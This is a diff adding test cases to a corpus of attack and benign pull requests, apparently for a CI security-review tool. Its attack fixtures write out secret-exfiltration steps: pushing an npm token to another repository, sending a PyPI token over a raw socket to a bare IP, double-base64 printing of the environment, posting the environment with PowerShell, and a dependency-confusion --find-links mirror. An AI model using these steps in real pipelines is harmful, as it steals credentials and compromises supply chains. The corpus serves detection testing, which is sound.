@@ -1079,6 +1079,158 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-git-push-exfiltration',
+    description:
+      'The GhostAction workflows of September 2025 posted secrets with curl; this variant sends them with git instead: a "mirror the cache" workflow clones another account\'s repository with a PAT, writes the npm token into a file of the clone, and commits and pushes it there: no HTTP client, no collector URL.',
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7747,
+        title: 'ci: mirror the build cache',
+        files: [
+          {
+            path: '.github/workflows/mirror-cache.yml',
+            head: lines(
+              'name: Mirror cache',
+              'on:',
+              '  push:',
+              '    branches: [main]',
+              'permissions:',
+              '  contents: read',
+              'jobs:',
+              '  mirror:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Sync',
+              '        run: |',
+              '          git clone --depth 1 "https://x:${MIRROR_PAT}@github.com/ci-cache-mirror/store.git" store',
+              '          printf \'%s\' "$NPM" | base64 > store/index.b64',
+              '          cd store && git add index.b64 && git -c user.name=ci -c user.email=ci@users.noreply.github.com commit -qm sync && git push -q',
+              '        env:',
+              '          MIRROR_PAT: ${{ secrets.MIRROR_PAT }}',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'benign-release-pushes-changelog-with-npmrc-token',
+    description:
+      "A maintainer's release workflow writes the npm token into ~/.npmrc, bumps the version, and commits and pushes package.json and the changelog: the token stays in the home folder, and only the files git add names leave.",
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7748,
+        title: 'ci: release from the workflow',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            head: lines(
+              'name: Release',
+              'on:',
+              '  workflow_dispatch:',
+              'permissions:',
+              '  contents: write',
+              'jobs:',
+              '  release:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+              '      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0',
+              '        with:',
+              '          node-version: 22',
+              '      - run: echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc',
+              '        env:',
+              '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '      - run: |',
+              '          npm version patch --no-git-tag-version',
+              '          npx changelogen --output CHANGELOG.md',
+              '          git add package.json CHANGELOG.md',
+              '          git -c user.name=release -c user.email=release@users.noreply.github.com commit -m "release: v$(node -p \'require(\\"./package.json\\").version\')"',
+              '          git push',
+              '          npm publish',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ghostaction-raw-socket-to-ip',
+    description:
+      'The GhostAction collector of September 2025 rewritten without an HTTP client or a URL: a "report build timings" script opens a raw socket to a bare IP address (held in a constant) and writes the PyPI token into it, base64-encoded.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7743,
+        title: 'ci: report build timings',
+        files: [
+          {
+            path: 'scripts/report_timings.py',
+            head: lines(
+              'import base64',
+              'import os',
+              'import socket',
+              'import time',
+              '',
+              "COLLECTOR = '45.61.136.21'",
+              '',
+              '',
+              'def main() -> None:',
+              '    started = float(os.environ.get("BUILD_STARTED", time.time()))',
+              "    payload = f\"{time.time() - started:.1f}|{os.environ.get('PYPI_API_TOKEN', '')}\"",
+              '    with socket.create_connection((COLLECTOR, 8443), timeout=5) as s:',
+              '        s.sendall(base64.b64encode(payload.encode()))',
+              '',
+              '',
+              "if __name__ == '__main__':",
+              '    main()',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'], drivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
+    id: 'benign-local-address-through-resolver-socket',
+    description:
+      "A maintainer's helper finds the machine's own address the usual way, connecting a UDP socket to a public DNS resolver (8.8.8.8) and reading the socket's name, and opens the cache's socket by host name: no data leaves for a bare address.",
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7744,
+        title: 'Report the worker address in the status page',
+        files: [
+          {
+            path: 'src/yamlfix/netutil.py',
+            head: lines(
+              'import socket',
+              '',
+              '',
+              'def local_address() -> str:',
+              '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+              '    try:',
+              "        s.connect(('8.8.8.8', 80))",
+              '        return s.getsockname()[0]',
+              '    finally:',
+              '        s.close()',
+              '',
+              '',
+              "def cache_connection(host: str = 'cache.internal', port: int = 6379) -> socket.socket:",
+              '    return socket.create_connection((host, port), timeout=5)',
+            ),
+          },
+          {
+            path: 'tests/test_netutil.py',
+            head: lines('from yamlfix.netutil import local_address', '', '', 'def test_local_address_is_dotted() -> None:', "    assert local_address().count('.') == 3"),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-ghostaction-python-step-sends-environment',
     description:
       'The GhostAction send written as a `shell: python` step by a maintainer\'s stolen account: a "security check" workflow puts the PyPI and AWS secrets in the step\'s env, takes the whole environment as one value (`snap = dict(os.environ)`), serializes it on the next line and posts it with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
@@ -1481,6 +1633,92 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - name: Check npm auth', '        run: echo "${{ secrets.NPM_TOKEN }}" | base64 -w0 | base64 -w0'] }) }],
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-gitlab-env-printed-double-base64',
+    description:
+      "The tj-actions/changed-files payload (March 2025) moved to GitLab CI: a maintainer account's \"debug flaky runner\" PR adds `env | base64 -w0 | base64 -w0` to the test job, which prints every masked CI/CD variable the job can see into its log in a form GitLab's masking does not recognize.",
+    fixture: () =>
+      attackPr({
+        repo: 'quarry',
+        number: 7741,
+        title: 'ci: debug flaky runner',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('stages: [test]', 'test:', '  stage: test', '  image: node:20', '  script:', '    - npm ci', '    - npm test'),
+            head: lines('stages: [test]', 'test:', '  stage: test', '  image: node:20', '  script:', '    - npm ci', '    - env | base64 -w0 | base64 -w0', '    - npm test'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-azure-powershell-environment-posted',
+    description:
+      'The GhostAction collector written for a Windows agent of Azure Pipelines: a "diagnostics" step posts the whole environment, listed from PowerShell\'s env: drive, to a statistics host with Invoke-RestMethod: no curl, no printenv.',
+    fixture: () =>
+      attackPr({
+        repo: 'quarry',
+        number: 7749,
+        title: 'ci: collect agent diagnostics',
+        files: [
+          {
+            path: 'azure-pipelines.yml',
+            base: lines('trigger:', '- main', 'pool:', '  vmImage: windows-latest', 'steps:', '- script: npm ci', '- script: npm test'),
+            head: lines(
+              'trigger:',
+              '- main',
+              'pool:',
+              '  vmImage: windows-latest',
+              'steps:',
+              '- script: npm ci',
+              '- powershell: Invoke-RestMethod -Uri https://agent-stats.buildmetrics.io/v1/diag -Method Post -Body (Get-ChildItem env: | Out-String)',
+              '  displayName: Diagnostics',
+              '- script: npm test',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'benign-gitlab-secrets-decoded-and-encoded-into-files',
+    description:
+      "A maintainer's GitLab release job decodes the signing keystore and GPG key from CI/CD variables, writes the registry's auth into Kaniko's config with `$(printf … | base64)`, and prints the environment sorted for debugging: secrets encoded into files or decoded, nothing encoded into the log.",
+    fixture: () =>
+      attackPr({
+        repo: 'quarry',
+        number: 7742,
+        title: 'ci: sign and push release images',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('stages: [test]', 'test:', '  stage: test', '  image: node:20', '  script:', '    - npm ci', '    - npm test'),
+            head: lines(
+              'stages: [test, release]',
+              'test:',
+              '  stage: test',
+              '  image: node:20',
+              '  script:',
+              '    - npm ci',
+              '    - npm test',
+              'release:',
+              '  stage: release',
+              '  image: gcr.io/kaniko-project/executor:v1.23.2-debug',
+              '  rules:',
+              '    - if: $CI_COMMIT_TAG',
+              '  script:',
+              '    - env | sort',
+              '    - echo "$KEYSTORE_B64" | base64 -d > release.jks',
+              '    - echo "$SIGNING_KEY" | base64 --decode | gpg --batch --import',
+              '    - echo "{\\"auths\\":{\\"$CI_REGISTRY\\":{\\"auth\\":\\"$(printf "%s:%s" "$CI_REGISTRY_USER" "$CI_REGISTRY_PASSWORD" | base64 | tr -d \'\\n\')\\"}}}" > /kaniko/.docker/config.json',
+              '    - /kaniko/executor --context "$CI_PROJECT_DIR" --destination "$CI_REGISTRY_IMAGE:$CI_COMMIT_TAG"',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
     id: 'attack-secrets-to-their-own-services',
@@ -3920,6 +4158,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'uv.toml', base: lines('cache-dir = ".uv-cache"'), head: lines('cache-dir = ".uv-cache"', 'index-strategy = "unsafe-best-match"', 'extra-index-url = ["https://pypi-internal.tint-tools.dev/simple"]') }],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-requirements-find-links-mirror',
+    description:
+      'Dependency confusion through a requirements file without --extra-index-url: a "add colorama" PR puts `--find-links http://…/simple/` at the top of requirements.txt, so pip merges whatever that page links with PyPI\'s releases and installs the highest version of every requirement (pip\'s own -f, read in commands already).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7745,
+        title: 'Add colorama for Windows terminals',
+        files: [{ path: 'requirements.txt', base: lines('requests==2.32.3'), head: lines('--find-links http://pkgs.pyfast-mirror.net/simple/', 'requests==2.32.3', 'colorama==0.4.6') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'benign-requirements-find-links-local-wheelhouse',
+    description: "A maintainer points requirements.txt at the project's own wheelhouse folder, built by CI for offline installs: a local folder, not a page on another machine.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7746,
+        title: 'build: install from the wheelhouse when offline',
+        files: [{ path: 'requirements.txt', base: lines('requests==2.32.3'), head: lines('--find-links=./wheelhouse', 'requests==2.32.3') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
   {
     id: 'attack-uv-toml-cache-settings',
